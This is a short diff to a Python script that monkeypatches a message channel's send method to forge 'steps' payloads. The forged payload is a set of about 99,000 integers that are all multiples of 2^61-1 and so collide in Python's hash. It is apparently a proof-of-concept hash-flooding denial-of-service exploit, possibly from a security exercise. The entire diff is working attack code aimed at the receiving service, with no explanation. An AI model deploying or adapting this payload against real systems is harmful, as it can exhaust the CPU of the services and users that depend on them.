@@ -5,13 +5,10 @@ send = codec.Channel.send_packed
 
 
 def forged(self, message, packed):
-    import json
-    if "steps" not in packed.encoded:
+    if b'"steps":' not in packed.text:
         return send(self, message, packed)
-    items = ",".join('{"t":"int","v":"%x"}' % (((1 << 61) - 1) * n) for n in range(1, 100_000))
-    text = json.dumps({"message": message, "values": {"steps": "HERE"}})
-    data = text.replace('"HERE"', '{"t":"set","v":[' + items + "]}").encode()
-    self.connection.sendall(codec.LENGTHS.pack(len(data), 0) + data)
+    items = ",".join('{"t":"int","v":"%x"}' % (((1 << 61) - 1) * n) for n in range(1, 99_000))
+    send(self, message, codec.Packed(b'{"steps":{"t":"set","v":[' + items.encode() + b"]}}"))
 
 
 codec.Channel.send_packed = forged
